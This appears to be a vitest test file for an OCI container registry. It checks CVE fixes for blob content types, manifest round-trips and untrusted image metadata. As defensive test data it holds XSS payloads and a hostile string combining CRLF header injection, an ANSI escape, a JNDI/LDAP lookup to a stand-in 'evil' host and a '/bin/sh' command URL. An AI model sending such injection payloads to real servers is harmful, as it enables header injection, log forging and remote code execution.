import { digestOf, mediaTypes } from '@mcr/core';
import { blobOf, descriptorOf } from '@mcr/testkit';
import { describe, expect, test } from 'vitest';
import { imageOf, pushBlobs } from '../_util/manifests.ts';
import { useServer } from '../_util/use-server.ts';

const server = useServer();

test('CVE-2025-32019: a blob that is a page runs in no browser', async () => {
  for (const content of ['<script>alert(1)</script>', '<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>']) {
    const blob = blobOf(content, 'text/html');
    await pushBlobs(server().admin, 'page', blob);
    const response = await server().admin.getBlob('page', blob.digest, { headers: { accept: 'text/html' } });
    expect(response.text()).toBe(content);
    expect(response.header('content-type')).toBe('application/octet-stream');
    expect(response.header('x-content-type-options')).toBe('nosniff');
    expect(response.header('content-security-policy')).toBe("sandbox; default-src 'none'");
  }
});

test('CVE-2021-41190: a manifest comes back as it was pushed, byte for byte and of the type that it was pushed as', async () => {
  const config = blobOf('{}', 'application/vnd.oci.image.config.v1+json');
  await pushBlobs(server().admin, 'typed', config);
  const plain = imageOf(config, [], { mediaType: undefined });
  expect((await server().admin.pushManifest('typed', 'v1', plain)).status).toBe(201);
  for (const accept of ['*/*', mediaTypes.ociIndex, mediaTypes.dockerManifest, 'text/html']) {
    const response = await server().admin.getManifest('typed', 'v1', { headers: { accept } });
    expect(response.header('content-type')).toBe(mediaTypes.ociManifest);
    expect(response.header('docker-content-digest')).toBe(digestOf(response.body));
    expect(Buffer.compare(response.body, plain.bytes)).toBe(0);
  }
});

describe('CVE-2026-53488: what an image says of itself is data', () => {
  const evil = 'binary:///bin/sh?cmd=evil\r\nX-Evil: 1\u001b[31m${jndi:ldap://evil}';
  const annotations = { [evil]: evil, 'io.containerd.logger': evil, 'org.opencontainers.image.source': evil };

  test('in its annotations, its labels and the User-Agent of the client that pulls it', async () => {
    const config = blobOf(
      JSON.stringify({ config: { Labels: annotations } }),
      'application/vnd.oci.image.config.v1+json',
    );
    await pushBlobs(server().admin, 'evil', config);
    const subject = imageOf(config);
    expect((await server().admin.pushManifest('evil', 'subject', subject)).status).toBe(201);
    const fields = { annotations, artifactType: 'application/evil', subject: descriptorOf(subject) };
    expect((await server().admin.pushManifest('evil', 'v1', imageOf(config, [], fields))).status).toBe(201);
    const agent = 'agent ${jndi:ldap://evil} binary:///bin/sh';
    for (const response of [
      await server().admin.getManifest('evil', 'v1', { headers: { 'user-agent': agent } }),
      await server().admin.headManifest('evil', 'v1'),
      await server().admin.referrers('evil', subject.digest),
      await server().admin.getBlob('evil', config.digest),
    ]) {
      expect(response.status).toBe(200);
      expect(JSON.stringify(response.headers).toLowerCase()).not.toContain('evil');
    }
    for (const line of server().logLines) {
      for (const character of ['\n', '\r', '\u001b']) expect(line.trimEnd()).not.toContain(character);
      expect(JSON.parse(line)).toBeTypeOf('object');
    }
    const [pulled] = await server().audit('manifest_pulled');
    expect(pulled?.details).toMatchObject({ user_agent: agent });
  });
});
